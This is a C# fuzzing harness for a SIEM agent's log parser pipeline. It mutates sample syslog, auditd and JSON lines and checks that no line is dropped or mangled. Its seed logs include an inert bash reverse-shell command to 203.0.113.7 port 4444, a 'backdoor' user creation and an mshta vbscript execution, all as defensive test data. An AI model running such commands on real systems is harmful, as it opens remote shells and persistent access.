using NodaTime;
using Siem.Collectors.Parsing;
using Siem.Collectors.Sources;
using Siem.Core.Events;

namespace Siem.Host.Fuzz;

/// <summary>
/// The agent's <see cref="ParserPipeline"/> fed mutated lines of one format (syslog, auditd or JSON), a few lines per
/// iteration through one pipeline, then flushed. Promises checked (from the pipeline's contract): it never throws;
/// every non-blank line comes out in some event's original text (never dropped); a line no parser understood is
/// kept whole (tagged <c>_parse_failure</c>, message = original = the line). Lines are at most 64 KiB without a
/// newline, like the file source hands them over.
/// </summary>
internal sealed class ParserFuzzTarget : FuzzTarget
{
    private const int MaxLine = 64 * 1024;
    private readonly string[] _seeds;
    private long _offset;

    private ParserFuzzTarget(string name, string description, string[] seeds)
    {
        Name = name;
        Description = description;
        _seeds = seeds;
    }

    public override string Name { get; }
    public override string Description { get; }

    public static ParserFuzzTarget Syslog() => new("syslog", "RFC 3164/5424 syslog and program parsers (sshd, sudo, su, pam, cron, logind, useradd)",
    [
        "Nov 22 03:14:07 web1 sshd[4242]: Failed password for invalid user admin from 203.0.113.7 port 52113 ssh2",
        "Nov 22 03:14:09 web1 sshd[4242]: Accepted publickey for alice from 198.51.100.4 port 40022 ssh2: ED25519 SHA256:abc",
        "Nov  2 03:14:09 web1 sudo:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/bin/bash -c id",
        "Nov 22 03:15:00 web1 su[77]: pam_unix(su:session): session opened for user root(uid=0) by alice(uid=1000)",
        "Nov 22 03:16:00 web1 CRON[1234]: (root) CMD (run-parts /etc/cron.hourly)",
        "Nov 22 03:17:00 web1 useradd[901]: new user: name=backdoor, UID=1001, GID=1001, home=/home/backdoor, shell=/bin/bash, from=/dev/pts/0",
        "Nov 22 03:18:00 web1 systemd-logind[500]: New session 42 of user bob.",
        "Nov 22 03:19:00 web1 sshd[4243]: message repeated 3 times: [ Failed password for root from 203.0.113.9 port 22 ssh2]",
        "<34>1 2026-11-22T03:20:00.003Z web1 sshd 4244 ID47 [exampleSDID@32473 iut=\"3\" eventSource=\"Application\"] Failed password for root from 10.0.0.1 port 22 ssh2",
        "<13>Nov 22 03:21:00 web1 kernel: [12345.678] audit: type=1400 apparmor=\"DENIED\"",
        "2026-11-22T03:22:00.123456+00:00 web1 sshd[99]: Invalid user test from 192.0.2.1 port 1234",
    ]);

    public static ParserFuzzTarget Auditd() => new("auditd", "Linux audit records grouped by serial (SYSCALL/EXECVE/PATH/CWD/PROCTITLE/USER_*)",
    [
        "type=SYSCALL msg=audit(1700000000.123:4242): arch=c000003e syscall=59 success=yes exit=0 a0=55 a1=56 a2=57 a3=0 items=2 ppid=100 pid=101 auid=1000 uid=0 gid=0 euid=0 comm=\"bash\" exe=\"/usr/bin/bash\" key=\"exec\"",
        "type=EXECVE msg=audit(1700000000.123:4242): argc=3 a0=\"bash\" a1=\"-c\" a2=\"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"",
        "type=CWD msg=audit(1700000000.123:4242): cwd=\"/tmp\"",
        "type=PATH msg=audit(1700000000.123:4242): item=0 name=\"/usr/bin/bash\" inode=1234 dev=08:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
        "type=PROCTITLE msg=audit(1700000000.123:4242): proctitle=62617368002D63006964",
        "type=EOE msg=audit(1700000000.123:4242): ",
        "node=web1 type=USER_LOGIN msg=audit(1700000001.000:4243): pid=1 uid=0 auid=1000 ses=2 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" hostname=? addr=203.0.113.7 terminal=sshd res=failed'\u001dUID=\"root\" AUID=\"alice\"",
        "type=USER_CMD msg=audit(1700000002.000:4244): pid=5 uid=1000 auid=1000 ses=3 msg='cwd=\"/home/alice\" cmd=2F62696E2F6964 terminal=pts/0 res=success'",
    ]);

    public static ParserFuzzTarget Json() => new("json", "JSON lines: flat ECS-like, journald JSON, Windows event JSON (Event.System/EventData)",
    [
        "{\"@timestamp\":\"2026-11-22T03:14:07Z\",\"message\":\"Failed password for root\",\"source\":{\"ip\":\"203.0.113.7\"},\"user\":{\"name\":\"root\"}}",
        "{\"__REALTIME_TIMESTAMP\":\"1700000000000000\",\"_HOSTNAME\":\"web1\",\"SYSLOG_IDENTIFIER\":\"sshd\",\"_PID\":\"42\",\"MESSAGE\":\"Failed password for invalid user x from 10.0.0.1 port 22 ssh2\"}",
        "{\"Event\":{\"System\":{\"Provider\":{\"Name\":\"Microsoft-Windows-Sysmon\"},\"EventID\":1,\"TimeCreated\":{\"SystemTime\":\"2026-11-22T03:14:07.123Z\"},\"Computer\":\"WS1\"},\"EventData\":{\"Image\":\"C:\\\\Windows\\\\System32\\\\mshta.exe\",\"CommandLine\":\"mshta vbscript:Execute(\\\"x\\\")\",\"ParentImage\":\"C:\\\\Windows\\\\explorer.exe\"}}}",
        "{\"EventID\":4625,\"Channel\":\"Security\",\"TargetUserName\":\"admin\",\"IpAddress\":\"10.1.2.3\",\"TimeCreated\":\"2026-11-22T03:14:07Z\",\"Hostname\":\"dc1\"}",
        "{\"a\":[1,2,{\"b\":null,\"c\":true,\"d\":1.5e3}],\"e\":\"\\u00e9\\ud83d\\ude00\",\"f\":{\"g\":{\"h\":{\"i\":\"deep\"}}}}",
    ]);

    public override void RunOne(FuzzMutator mutator)
    {
        var pipeline = new ParserPipeline(ParserOptions.Default with { AgentId = "fuzz-agent", HostName = "fuzz-host", TimeZone = DateTimeZone.Utc });
        int lines = Name == "auditd" ? mutator.Random.Next(1, 7) : mutator.Random.Next(1, 3);
        var inputs = new List<string>(lines);
        for (int i = 0; i < lines; i++)
        {
            // Unmutated lines now and then, so an auditd group mixes good and broken records.
            string seed = Pick(mutator, _seeds);
            string line = mutator.Random.Next(4) == 0 ? seed : mutator.Mutate(seed, Pick(mutator, _seeds), MaxLine);
            inputs.Add(line.Replace('\n', ' ').Replace('\r', ' '));
        }
        CurrentInput = string.Join('\n', inputs);
        var events = new List<LogEvent>();
        foreach (var text in inputs)
        {
            _offset += text.Length + 1;
            pipeline.Parse(new RawLine("file", "file:fuzz:1", _offset, _offset + text.Length + 1, text, Path: "/var/log/fuzz.log"), events);
        }
        pipeline.Flush(events);
        Check(inputs, events);
    }

    private void Check(List<string> inputs, List<LogEvent> events)
    {
        foreach (var e in events)
        {
            bool failed = e.Fields.TryGetValue(EcsFields.Tags, out var tags)
                && (tags is string one ? one == EcsFields.ParseFailureTag : ((string[])tags).Contains(EcsFields.ParseFailureTag, StringComparer.Ordinal));
            // The pipeline contains a parser's exception (the line is kept as a parse failure); still worth knowing which.
            if (e.Get("error.message") is { } error && error.StartsWith("parser error: ", StringComparison.Ordinal))
                Count("parser_errors_contained:" + error["parser error: ".Length..].Split(':')[0]);
            if (!failed) continue;
            Count("parse_failures");
            if (!inputs.Contains(e.Original, StringComparer.Ordinal) || e.Get(EcsFields.Message) != e.Original)
                throw new FuzzContractException($"a parse failure was not kept whole: original {Short(e.Original)}, message {Short(e.Get(EcsFields.Message))}");
        }
        var originals = string.Join('\n', events.Select(e => e.Original));
        foreach (var line in inputs.Where(l => !string.IsNullOrWhiteSpace(l)))
        {
            if (!originals.Contains(line, StringComparison.Ordinal))
                throw new FuzzContractException($"line dropped: no event carries it ({events.Count} events from {inputs.Count} lines): {Short(line)}");
        }
        Count("lines");
        Count(events.Count == 0 ? "no_events" : "events");
    }

    private static string Short(string? s) => s == null ? "(null)" : s.Length > 120 ? s[..120] + "…" : s;
}
